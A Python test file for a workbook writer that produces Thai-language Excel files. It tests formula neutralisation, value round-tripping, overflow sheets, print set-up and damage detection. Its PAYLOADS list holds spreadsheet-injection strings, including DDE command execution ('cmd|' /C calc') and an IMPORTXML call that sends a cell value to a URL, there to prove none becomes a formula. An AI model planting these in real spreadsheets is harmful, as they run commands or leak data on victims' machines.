"""The written file, opened again: no formula, nothing lost, tables and print set-up as Excel wants them."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from PIL import Image

from fieldkit.errors import Text
from fieldkit.model.workbook import cells, package, sheets
from fieldkit.model.workbook.package import WorkbookDamaged
from fieldkit.model.workbook.pictures import Picture
from fieldkit.model.workbook.plain import PlainBook
from fieldkit.model.workbook.sheets import Column, Sheet
from fieldkit.model.workbook.writing import WorkbookWriter
from tests.model.workbook.reading import table

MOMENT = datetime(2026, 11, 22, 10, 42)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org","click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=",
    "==",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    " =1+1",
    "=1+1;=2+2",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "00123",
    "2024-02-15",
    "3/4",
    "<script>alert(1)</script>",
    "]]>&amp;&lt;",
    "_x0041_",
    " leading and trailing ",
    "ก\u0e38\u0e48 ำ",
]


def writer(folder: Path, **options: Any) -> WorkbookWriter:
    return WorkbookWriter(folder / "out.xlsx", **{"language": "th", "moment": MOMENT, **options})


def written(
    folder: Path, rows: list[dict[str, Any]], sheet: sheets.Sheet = sheets.ANSWERS, **options: Any
) -> Any:
    book = writer(folder, **options)
    try:
        for row in rows:
            book.append(sheet, row)
        book.save()
    finally:
        book.abandon()
    return openpyxl.load_workbook(folder / "out.xlsx")


def formulas(path: Path) -> int:
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return sum(part.count(b"<f>") + part.count(b"<f ") + part.count(b't="e"') for part in parts)


def test_no_payload_becomes_a_formula_and_each_reads_back_equal(tmp_path: Path) -> None:
    rows = [
        {"question": text, "note": text, "answer_code": text, "number": text, "date": text}
        for text in PAYLOADS
    ]
    found = table(written(tmp_path, rows), "Answers")
    assert formulas(tmp_path / "out.xlsx") == 0
    for row, text in zip(found, PAYLOADS, strict=True):
        expected = text.replace("\r", "\n")
        for key in ("question", "note", "answer_code", "number"):
            assert unescape(row[key]) == expected


def test_a_payload_in_the_heading_is_only_text(tmp_path: Path) -> None:
    book = written(tmp_path, [], heading="=1+1 &D &[Path] สอจ.")
    assert formulas(tmp_path / "out.xlsx") == 0
    header = book["คำตอบ"].oddHeader.left.text
    assert header == "=1+1 &&D && [Path] สอจ."


def test_a_risky_text_stays_a_text_when_a_person_edits_the_cell(tmp_path: Path) -> None:
    sheet = written(tmp_path, [{"question": "=1+1"}, {"question": "1+1"}])["คำตอบ"]
    column = next(cell.column for cell in sheet[1] if cell.value == "question")
    assert [sheet.cell(row, column).quotePrefix for row in (3, 4)] == [True, False]


@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "question": st.text(st.characters(codec=None, exclude_categories=[]), max_size=80),
                "number": st.one_of(st.floats(-1e14, 1e14), st.integers(-(10**14), 10**14), st.none()),
                "date": st.one_of(st.dates(date(1900, 3, 1), date(9999, 12, 31)), st.none()),
            }
        ),
        max_size=20,
    )
)
@settings(
    max_examples=20,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    phases=[Phase.generate, Phase.shrink],
)
def test_any_text_number_and_date_reads_back_the_same(tmp_path: Path, rows: list[dict[str, Any]]) -> None:
    full = [row for row in rows if any(value not in (None, "") for value in row.values())]
    found = table(written(tmp_path, full), "Answers")
    assert formulas(tmp_path / "out.xlsx") == 0
    assert len(found) == len(full)
    for row, back in zip(full, found, strict=True):
        text = cells.clean(row["question"]).text
        assert unescape(back["question"] or "") == text
        assert back["number"] == row["number"]
        assert (back["date"] and back["date"].date()) == row["date"]


KINDS = Sheet(
    "Kinds",
    Text("ชนิด", "Kinds"),
    tuple(
        Column(kind, Text(kind, kind), kind)
        for kind in ("text", "code", "number", "integer", "percent", "date", "moment")
    ),
)
TEXTS = st.text(st.characters(codec=None, exclude_categories=[]), max_size=80)
NUMBERS = st.one_of(st.floats(-1e14, 1e14), st.integers(-(10**14), 10**14))
MOMENTS = st.datetimes(datetime(1900, 3, 1), datetime(9999, 12, 31)).map(lambda at: at.replace(microsecond=0))
VALUES = {
    "text": TEXTS,
    "code": st.one_of(TEXTS, st.from_regex(r"[0-9]{13,18}", fullmatch=True)),
    "number": NUMBERS,
    "integer": st.integers(-(10**14), 10**14),
    "percent": st.floats(0, 1),
    "date": st.dates(date(1900, 3, 1), date(9999, 12, 31)),
    "moment": MOMENTS,
}


@given(
    st.lists(
        st.fixed_dictionaries({}, optional=VALUES).filter(lambda row: any(row[k] != "" for k in row)),
        min_size=1,
        max_size=12,
    ),
    st.integers(1, 3),
)
@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_every_kind_of_cell_reads_back_the_same(
    tmp_path: Path, rows: list[dict[str, Any]], times: int
) -> None:
    """Rows that come again are made from what is kept of the first ones."""
    writer = WorkbookWriter(
        tmp_path / "k.xlsx", language="th", moment=MOMENT, order=(KINDS, sheets.LONG_TEXTS, sheets.ABOUT)
    )
    for row in rows * times:
        writer.append(KINDS, row)
    writer.save()
    writer.abandon()
    found = table(openpyxl.load_workbook(tmp_path / "k.xlsx"), "Kinds")
    assert len(found) == len(rows) * times
    for row, back in zip(rows * times, found, strict=True):
        for kind in VALUES:
            wanted, read = row.get(kind), back[kind]
            if kind in ("text", "code"):
                assert unescape(read or "") == cells.clean(wanted or "").text
            elif kind == "date":
                assert (read and read.date()) == wanted
            elif kind == "moment":
                assert (read is None) == (wanted is None)
                assert read is None or abs((read - wanted).total_seconds()) < 1
            else:
                assert read == wanted


def test_pages_to_the_right_say_whose_their_rows_are(tmp_path: Path) -> None:
    book = written(tmp_path, [{"question": "ก" * 200, "answer": "ข" * 200, "note": "ค" * 200}])
    answers, about = book[sheets.ANSWERS.title.th], book[sheets.ABOUT.title.th]
    assert answers.page_setup.fitToWidth > 1
    assert answers.print_title_cols == "$B:$C"
    assert not about.print_title_cols


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (7, 7),
        (7.25, 7.25),
        (Decimal("0.1"), 0.1),
        (-3, -3),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
        (12345678901234567, "12345678901234567"),
        ("7", "7"),
        (True, "True"),
    ],
)
def test_numbers_are_numbers_only_if_nothing_is_lost(tmp_path: Path, value: object, expected: object) -> None:
    found = table(written(tmp_path, [{"number": value}]), "Answers")
    assert found[0]["number"] == expected
    assert type(found[0]["number"]) is type(expected)


def test_register_numbers_and_phones_are_text(tmp_path: Path) -> None:
    row = {"registration_no": "01066000000000", "phone": "0371234567", "license_date": "31/2/2567"}
    book = written(tmp_path, [row], sheets.FACTORIES)
    assert table(book, "Factories")[0] | row == table(book, "Factories")[0]
    cell = next(cell for cell in book["โรงงาน"][3] if cell.value == "01066000000000")
    assert (cell.data_type, cell.number_format) == ("s", "@")


def test_dates_are_real_and_show_the_buddhist_era(tmp_path: Path) -> None:
    row = {"date": "2024-02-15", "date_iso": "2024-02-15"}
    sheet = written(tmp_path, [row])["คำตอบ"]
    real = next(cell for cell in sheet[3] if isinstance(cell.value, datetime))
    assert real.value == datetime(2024, 2, 15)
    assert real.number_format == "[$-107041E]d mmm yyyy"
    assert "2024-02-15" in [cell.value for cell in sheet[3]]


def test_a_long_text_goes_on_in_its_own_sheet(tmp_path: Path) -> None:
    text = "ที่ดิน " * 10_000
    rows = [{"note": "a"}, {"note": text}]
    book = written(tmp_path, rows)
    parts = table(book, "LongTexts")
    assert "".join(row["text"] for row in parts) == text
    assert {(row["sheet"], row["row"], row["column"], row["number"]) for row in parts} == {
        ("คำตอบ", 4, "หมายเหตุ", 1)
    }
    shown = table(book, "Answers")[1]["note"]
    assert shown.endswith("… [ข้อความยาว 1]")
    assert len(shown) <= cells.MAX_UNITS
    assert text.startswith(shown.removesuffix(" … [ข้อความยาว 1]"))
    assert book.sheetnames[-2:] == ["ข้อความยาว", "เกี่ยวกับ"]


def test_a_long_text_met_late_is_counted_too(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"note": "a"}] * 300 + [{"note": "x" * 40_000}]
    assert len(table(written(tmp_path, rows), "LongTexts")) == 2


def test_a_full_sheet_goes_on_in_the_next(tmp_path: Path) -> None:
    rows = [{"question_code": f"Q{n}"} for n in range(450)]
    book = written(tmp_path, rows, max_rows=202)
    assert book.sheetnames[3:6] == ["คำตอบ", "คำตอบ (2)", "คำตอบ (3)"]
    found = [table(book, name) for name in ("Answers", "Answers_2", "Answers_3")]
    assert [len(part) for part in found] == [200, 200, 50]
    assert [row["question_code"] for part in found for row in part] == [row["question_code"] for row in rows]


def test_an_unknown_column_is_a_mistake_of_ours(tmp_path: Path) -> None:
    book = writer(tmp_path)
    with pytest.raises(KeyError, match="nonsense"):
        book.append(sheets.ANSWERS, {"nonsense": 1})
    book.abandon()


@pytest.mark.parametrize("language", ["th", "en"])
@pytest.mark.parametrize("count", [0, 1, 5])
def test_every_sheet_has_header_filter_panes_and_print_set_up(
    tmp_path: Path, language: str, count: int
) -> None:
    book = written(tmp_path, [{"question": "x"}] * count, language=language)
    for declared, sheet in zip((s for s in sheets.SHEETS if s is not sheets.LONG_TEXTS), book, strict=True):
        assert sheet.title == declared.title.pick(language)
        named = sheet.tables[declared.table]
        assert [column.name for column in named.tableColumns] == [cell.value for cell in sheet[2]]
        assert [cell.value for cell in sheet[2]] == [
            column.title.pick(language) for column in declared.columns
        ]
        assert named.autoFilter.ref == named.ref
        assert named.ref.endswith(str(max(3, sheet.max_row)))
        assert (sheet.freeze_panes, sheet.row_dimensions[1].hidden) == ("A3", True)
        assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
        assert sheet.print_title_rows == "$1:$2"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert {cell.font.name for cell in sheet[2]} == {"TH SarabunPSK"}


def test_widths_follow_what_is_seen_not_code_points(tmp_path: Path) -> None:
    rows = [{"section": "น้ำทิ้งที่ดี้" * 3, "unit": "x" * 60, "question": "ก" * 500}]
    sheet = written(tmp_path, rows)["คำตอบ"]
    letters = {cell.value: cell.column_letter for cell in sheet[1]}
    width = {key: sheet.column_dimensions[letter].width for key, letter in letters.items()}
    assert 20 < width["section"] < 30  # 21 letters seen, 39 code points
    assert width["unit"] == pytest.approx(1.1 * 40 + 2)
    assert width["question"] == pytest.approx(1.1 * 60 + 2)


def test_wrapped_text_gets_the_height_it_needs(tmp_path: Path) -> None:
    rows = [{"note": "สั้น"}, {"note": "ก" * 300}, {"note": "a\nb\nc"}, {"note": "x" * 30_000}]
    sheet = written(tmp_path, rows)["คำตอบ"]
    heights = [sheet.row_dimensions[row].height for row in (3, 4, 5, 6)]
    assert heights[0] is None
    assert heights[1] is not None
    assert heights[1] >= 5 * 21
    assert heights[2] == 3 * 21
    assert heights[3] == 400


def test_the_text_that_a_column_is_wide_for_needs_one_line(tmp_path: Path) -> None:
    rows = [{"section": "ก" * count} for count in range(6, 41)]
    for row in rows:
        sheet = written(tmp_path, [row])["คำตอบ"]
        assert sheet.row_dimensions[3].height is None, row


def test_pictures_stand_in_their_rows_and_need_no_memory(tmp_path: Path) -> None:
    small = tmp_path / "small.jpg"
    Image.new("RGB", (160, 120), "red").save(small)
    rows: list[dict[str, Any]] = [
        {"file_name": "a.jpg", "picture": Picture(small, 160, 120)},
        {"file_name": "b.jpg"},
    ]
    sheet = written(tmp_path, rows, sheets.PHOTOS)["ภาพถ่าย"]
    assert [image.anchor._from.row for image in sheet._images] == [2]
    assert sheet._images[0]._data() == small.read_bytes()
    assert sheet.row_dimensions[3].height >= 90
    assert sheet.row_dimensions[4].height is None


def test_the_same_rows_and_clock_give_the_same_bytes(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"question": "ก", "number": 1.5, "date": "2024-02-15"}]
    written(tmp_path, rows)
    first = (tmp_path / "out.xlsx").read_bytes()
    written(tmp_path, rows)
    assert (tmp_path / "out.xlsx").read_bytes() == first
    written(tmp_path, [*rows, {"question": "ข"}])
    assert (tmp_path / "out.xlsx").read_bytes() != first


def test_a_flipped_byte_in_any_sheet_is_noticed(tmp_path: Path) -> None:
    written(tmp_path, [{"question": f"ข้อ {n}"} for n in range(50)])
    path = tmp_path / "out.xlsx"
    whole = path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        starts = [info.header_offset + 30 + len(info.filename) + 20 for info in archive.infolist()]
    for start in starts:
        data = bytearray(whole)
        data[start] ^= 0xFF
        path.write_bytes(data)
        with pytest.raises(WorkbookDamaged, match=r"out\.xlsx"):
            package.count(path)


def test_a_row_lost_on_the_disk_is_noticed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pack = package.pack

    def losing(workbook: Any, path: Path, moment: datetime) -> None:
        pack(workbook, path, moment)
        out = io.BytesIO()
        with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w") as target:
            for name in source.namelist():
                data = source.read(name)
                if name.endswith("sheet3.xml"):
                    head, _, tail = data.rpartition(b"<row ")
                    data = head + tail.partition(b"</row>")[2]
                target.writestr(name, data)
        path.write_bytes(out.getvalue())

    monkeypatch.setattr(package, "pack", losing)
    book = writer(tmp_path)
    book.append(sheets.ANSWERS, {"question": "lost"})
    with pytest.raises(WorkbookDamaged):
        book.save()
    book.abandon()


def test_plain_sheets_keep_any_value_and_run_on_when_they_are_full(tmp_path: Path) -> None:
    """What shapes of other programs are written with: the same cells, no looks, no table."""
    book = PlainBook(tmp_path / "plain.xlsx", datetime(2026, 11, 22), max_rows=3)
    sheet = book.sheet("ก" * 40, ["text", "number", "day", "moment"])
    rows: list[list[object]] = [
        ["=1+1", 1.5, date(2024, 2, 29), datetime(2024, 2, 29, 13, 30, 5)],
        ["", None, "", "ไม่ทราบ"],
        ["\x07x", 7, date(1899, 1, 1), datetime(2567, 1, 1)],
    ]
    for row in rows:
        sheet.append(row)
    book.save()
    book.abandon()
    read = openpyxl.load_workbook(tmp_path / "plain.xlsx")
    assert read.sheetnames == [f"{'ก' * 28}...", f"{'ก' * 24}... (1)"]
    first, second = read.worksheets
    assert [first.freeze_panes, second.freeze_panes] == ["A2", "A2"]
    assert [[cell.value for cell in row] for row in first.iter_rows()] == [
        ["text", "number", "day", "moment"],
        ["=1+1", 1.5, datetime(2024, 2, 29), datetime(2024, 2, 29, 13, 30, 5)],
        [None, None, None, "ไม่ทราบ"],
    ]
    assert [cell.value for cell in second[2]] == ["␇x", 7, "1899-01-01", datetime(2567, 1, 1)]
    assert {cell.data_type for row in (*first, *second) for cell in row} == {"s", "n", "d"}
    assert first["A2"].quotePrefix
    assert [path.name for path in tmp_path.iterdir()] == ["plain.xlsx"]
